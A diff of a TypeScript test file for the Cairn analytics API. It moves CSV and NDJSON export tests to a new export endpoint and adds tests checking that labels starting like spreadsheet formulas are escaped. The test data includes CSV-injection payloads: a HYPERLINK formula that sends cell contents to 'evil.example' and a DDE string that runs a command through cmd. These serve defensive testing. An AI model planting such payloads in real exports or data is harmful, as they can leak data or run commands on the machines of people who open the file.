@@ -85,6 +85,15 @@ describe('query exports: CSV and NDJSON', () => {
     http(cairn.url, 'GET', `/api/v1/query?q=${encodeURIComponent(JSON.stringify(query))}`, {
       headers: { ...cairn.auth, ...headers },
     });
+  const exp = (body: unknown, headers: Record<string, string> = {}) =>
+    http(cairn.url, 'POST', '/api/v1/query/export', {
+      body,
+      headers: { ...cairn.auth, ...headers },
+    });
+  const expGet = (query: unknown, headers: Record<string, string> = {}) =>
+    http(cairn.url, 'GET', `/api/v1/query/export?q=${encodeURIComponent(JSON.stringify(query))}`, {
+      headers: { ...cairn.auth, ...headers },
+    });
   const labelled = {
     metrics: ['tasks_created', 'completion_rate'],
     dimensions: ['project'],
@@ -96,7 +105,7 @@ describe('query exports: CSV and NDJSON', () => {
   async function both(query: unknown) {
     const json = await post(query);
     expect(json.status).toBe(200);
-    const csv = await post(query, CSV);
+    const csv = await exp(query, CSV);
     expect(csv.status).toBe(200);
     const [header, ...records] = parseCsv(csv.text);
     return { rows: json.body.data as Record<string, unknown>[], csv, header, records };
@@ -174,7 +183,7 @@ describe('query exports: CSV and NDJSON', () => {
     ],
   ])('NDJSON gives one line per row, equal to the JSON rows: %s', async (_name, query) => {
     const json = await post(query);
-    const ndjson = await post(query, NDJSON);
+    const ndjson = await exp(query, NDJSON);
     expect(ndjson.status).toBe(200);
     expect(ndjson.headers.get('content-type')).toBe('application/x-ndjson');
     expect(ndjson.text.endsWith('\n')).toBe(true);
@@ -190,30 +199,30 @@ describe('query exports: CSV and NDJSON', () => {
     const all = { metrics: ['tasks_created'], dimensions: ['project'], period: 'last_7_days' };
     // The JSON answer keeps its own cap: all five rows.
     expect((await post(all)).body.data).toHaveLength(5);
-    const cut = await post(all, CSV);
+    const cut = await exp(all, CSV);
     expect(cut.headers.get('cairn-warnings')).toBe('result_truncated');
     expect(parseCsv(cut.text)).toHaveLength(1 + 4);
-    const lines = await post(all, NDJSON);
+    const lines = await exp(all, NDJSON);
     expect(lines.headers.get('cairn-warnings')).toBe('result_truncated');
     expect(lines.text.trimEnd().split('\n')).toHaveLength(4);
     // A limit over the export cap is held to the cap, and warned of.
-    const over = await post({ ...all, limit: 10 }, CSV);
+    const over = await exp({ ...all, limit: 10 }, CSV);
     expect(over.headers.get('cairn-warnings')).toBe('result_truncated');
     expect(parseCsv(over.text)).toHaveLength(1 + 4);
-    const own = await post({ ...all, limit: 2 }, CSV);
+    const own = await exp({ ...all, limit: 2 }, CSV);
     expect(own.headers.get('cairn-warnings')).toBeNull();
     expect(parseCsv(own.text)).toHaveLength(1 + 2);
   });
 
   it('the GET form exports alike', async () => {
-    const viaPost = await post(labelled, CSV);
-    const viaGet = await get(labelled, CSV);
+    const viaPost = await exp(labelled, CSV);
+    const viaGet = await expGet(labelled, CSV);
     expect(viaGet.status).toBe(200);
     expect(viaGet.headers.get('content-type')).toBe('text/csv; charset=utf-8');
     expect(viaGet.headers.get('content-disposition')).toMatch(/^attachment; filename=".+\.csv"$/);
     expect(viaGet.headers.get('vary')).toMatch(/\bAccept\b/);
     expect(viaGet.text).toBe(viaPost.text);
-    const lines = await get(labelled, NDJSON);
+    const lines = await expGet(labelled, NDJSON);
     expect(
       lines.text
         .trimEnd()
@@ -224,12 +233,12 @@ describe('query exports: CSV and NDJSON', () => {
 
   it('an invalid request keeps its JSON error shapes when it asked for CSV', async () => {
     const bad = { metrics: ['no_such_metric'] };
-    for (const res of [await post(bad, CSV), await get(bad, NDJSON)]) {
+    for (const res of [await exp(bad, CSV), await expGet(bad, NDJSON)]) {
       expect(res.status).toBe(422);
       expect(res.headers.get('content-type')).toMatch(/^application\/json/);
       expect(res.body.detail[0].loc).toContain('metrics');
     }
-    const tooMany = await post(
+    const tooMany = await exp(
       {
         metrics: ['tasks_created'],
         dimensions: ['hour'],
@@ -242,26 +251,141 @@ describe('query exports: CSV and NDJSON', () => {
   });
 
   it.each([
-    [undefined, 'application/json'],
-    ['*/*', 'application/json'],
-    ['application/json, text/csv', 'application/json'],
-    ['text/csv;q=0.5, application/json;q=0.9', 'application/json'],
-    ['application/json;q=0.1, text/csv', 'text/csv'],
+    [undefined, 'text/csv'],
+    ['*/*', 'text/csv'],
+    ['application/json, text/csv', 'text/csv'],
+    ['text/csv;q=0.5, application/x-ndjson;q=0.9', 'application/x-ndjson'],
     ['text/*', 'text/csv'],
     ['application/x-ndjson, */*;q=0.1', 'application/x-ndjson'],
-  ])('Accept %s answers %s', async (accept, type) => {
-    const res = await post(labelled, accept === undefined ? {} : { Accept: accept });
+  ])('the export operation answers Accept %s with %s', async (accept, type) => {
+    const res = await exp(labelled, accept === undefined ? {} : { Accept: accept });
     expect(res.status).toBe(200);
     expect(res.headers.get('content-type')?.split(';')[0]).toBe(type);
   });
 
-  it('an Accept the operation cannot answer is a 406 problem', async () => {
-    for (const accept of ['image/png', 'text/csv;q=0, application/json;q=0']) {
-      const res = await post(labelled, { Accept: accept });
+  it('an Accept the export cannot answer is a 406 problem naming its forms', async () => {
+    for (const accept of ['image/png', 'application/json', 'text/csv;q=0, application/json']) {
+      const res = await exp(labelled, { Accept: accept });
       expect(res.status).toBe(406);
       expect(res.headers.get('content-type')).toMatch(/^application\/problem\+json/);
       expect(res.body.detail).toMatch(/text\/csv/);
     }
+  });
+
+  it('/query answers JSON only: a file is a 406 problem naming the export operation', async () => {
+    for (const accept of [undefined, '*/*', 'application/json, text/csv']) {
+      const res = await post(labelled, accept === undefined ? {} : { Accept: accept });
+      expect(res.status).toBe(200);
+      expect(res.headers.get('content-type')?.split(';')[0]).toBe('application/json');
+    }
+    for (const res of [await post(labelled, CSV), await get(labelled, NDJSON)]) {
+      expect(res.status).toBe(406);
+      expect(res.headers.get('content-type')).toMatch(/^application\/problem\+json/);
+      expect(res.body.detail).toMatch(/\/api\/v1\/query\/export/);
+    }
+  });
+});
+
+/** Labels a spreadsheet would run as formulas (OWASP "CSV injection"). */
+const FORMULAS = {
+  hyperlink: '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+  command: "+cmd|' /C calc'!A0",
+  arithmetic: '-2+3',
+  at: '@SUM(1+1)',
+  tab: '\tleading tab',
+  cr: '\rleading CR',
+};
+const FORMULA_START = /^[=+\-@\t\r]/;
+const DAY_MS = 86_400_000;
+
+// CAIRN_CSV_FORMULA_ESCAPE is a setting of each Cairn: each suite starts its own.
+describe.each<{ escapes: boolean; env: Record<string, string> }>([
+  { escapes: true, env: {} },
+  { escapes: false, env: { CAIRN_CSV_FORMULA_ESCAPE: 'false' } },
+])('query exports: labels that start like a formula (escape $escapes)', ({ escapes, env }) => {
+  // Last week's tasks, then this week's: a comparison with fewer now has negative changes.
+  let clock = Date.now() - 7 * DAY_MS;
+  const cairn = useCairn({
+    now: () => new Date(clock),
+    env: { CAIRN_STALE_AFTER_MS: '86400000', ...env },
+    businesses: ['acme'],
+  });
+  const post = (body: unknown, headers: Record<string, string> = {}) =>
+    http(cairn.url, 'POST', '/api/v1/query', { body, headers: { ...cairn.auth, ...headers } });
+  const exp = (body: unknown, headers: Record<string, string> = {}) =>
+    http(cairn.url, 'POST', '/api/v1/query/export', {
+      body,
+      headers: { ...cairn.auth, ...headers },
+    });
+  const dimensions = ['project', 'assignee'];
+
+  beforeAll(async () => {
+    const writer = await cairn.token({ scopes: ['workflows:write'], businesses: ['acme'] });
+    const create = async (project: string, assignee: string) => {
+      const res = await http(cairn.url, 'POST', '/api/v1/tasks', {
+        body: { business: 'acme', name: 'Task', project, assignee },
+        headers: writer,
+      });
+      expect(res.status).toBe(201);
+    };
+    const labelled = () =>
+      Promise.all(Object.values(FORMULAS).map((label) => create(label, 'plain')));
+    for (let i = 0; i < 3; i++) await create(FORMULAS.hyperlink, FORMULAS.at);
+    await labelled();
+    clock = Date.now();
+    await create(FORMULAS.hyperlink, FORMULAS.at);
+    await labelled();
+    await waitFor(
+      async () => {
+        const res = await post({ metrics: ['tasks_created'], period: 'last_30_days' });
+        return res.body.data[0]?.tasks_created === 16;
+      },
+      { timeoutMs: 60_000 },
+    );
+  }, 90_000);
+
+  /** The CSV fields a JSON row gives: labels that start like a formula behind a `'` (when on). */
+  const expected = (header: string[], row: Record<string, unknown>) =>
+    header.map((key) => {
+      const value = flatten(row)[key] as string;
+      return escapes && dimensions.includes(key) && FORMULA_START.test(value) ? `'${value}` : value;
+    });
+
+  it.each([
+    ['read straight from the engine (a breakdown)', { period: 'last_30_days' }],
+    ['built from the answer (a comparison)', { period: 'last_7_days', compare: 'previous_period' }],
+  ])('CSV %s', async (_name, shape) => {
+    const query = { metrics: ['tasks_created'], dimensions, ...shape };
+    const json = await post(query);
+    expect(json.status).toBe(200);
+    const rows = json.body.data as Record<string, unknown>[];
+    // The JSON answer keeps the labels as they are.
+    expect(rows.map((row) => row.project)).toEqual(
+      expect.arrayContaining([FORMULAS.hyperlink, FORMULAS.command, FORMULAS.tab]),
+    );
+    const csv = await exp(query, CSV);
+    expect(csv.status).toBe(200);
+    const [header, ...records] = parseCsv(csv.text);
+    expect(records).toEqual(rows.map((row) => expected(header as string[], row)));
+    const hyperlink = records.find((record) => record[0]?.endsWith(FORMULAS.hyperlink));
+    expect(hyperlink?.slice(0, 2)).toEqual(
+      escapes ? [`'${FORMULAS.hyperlink}`, `'${FORMULAS.at}`] : [FORMULAS.hyperlink, FORMULAS.at],
+    );
+    expect(csv.text).toContain(escapes ? `\r\n'-2+3,plain,` : '\r\n-2+3,plain,');
+    if ('compare' in shape) {
+      // 1 this week against 3 the week before: numbers stay plain, negative ones included.
+      const change = header?.indexOf('change.tasks_created') as number;
+      expect(hyperlink?.[change]).toBe(String((1 - 3) / 3));
+      expect(csv.text).toContain(`,3,${(1 - 3) / 3}\r\n`);
+    }
+  });
+
+  it('NDJSON keeps the labels as they are', async () => {
+    const query = { metrics: ['tasks_created'], dimensions, period: 'last_30_days' };
+    const json = await post(query);
+    const lines = (await exp(query, NDJSON)).text.trimEnd().split('\n');
+    expect(lines.map((line) => JSON.parse(line))).toEqual(json.body.data);
+    expect(json.body.data.map((row: { project: string }) => row.project)).toContain(FORMULAS.at);
   });
 });
 
@@ -281,7 +405,7 @@ describe('query exports: a large one streams', () => {
       peak = Math.max(peak, process.memoryUsage().rss);
     }, 10);
     try {
-      const res = await fetch(`${cairn.url}/api/v1/query`, {
+      const res = await fetch(`${cairn.url}/api/v1/query/export`, {
         method: 'POST',
         headers: { ...cairn.auth, 'Content-Type': 'application/json', Accept: 'text/csv' },
         body: JSON.stringify(query),
@@ -316,8 +440,8 @@ describe('query exports: a large one streams', () => {
     expect(res.headers.get('transfer-encoding')).toBe('chunked');
     expect(res.headers.get('cairn-warnings')).toBeNull();
     expect(lines).toBe(1 + total);
-    // Loose on purpose (the server shares this process with the test, and chDB's adapter hands
-    // the engine's output over whole): the tight figure is bench/export.bench.ts's.
+    // Loose on purpose (the server and the embedded engine, whose aggregation is most of the
+    // growth, share this process with the test): the tight figure is bench/export.bench.ts's.
     expect(growth, `RSS grew by ${(growth / 1048576).toFixed(1)} MiB`).toBeLessThan(256 * 1048576);
   }, 180_000);
 });
